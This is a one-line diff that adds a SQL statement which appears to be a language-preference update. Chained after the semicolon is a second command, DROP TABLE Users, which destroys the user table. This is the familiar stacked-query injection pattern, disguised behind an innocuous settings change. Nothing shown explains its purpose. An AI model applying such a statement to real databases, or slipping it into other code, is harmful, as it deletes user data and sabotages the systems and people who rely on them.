@@ -1,0 +1,1 @@
+UPDATE GlobalPref SET LanguageID = 2; DROP TABLE Users
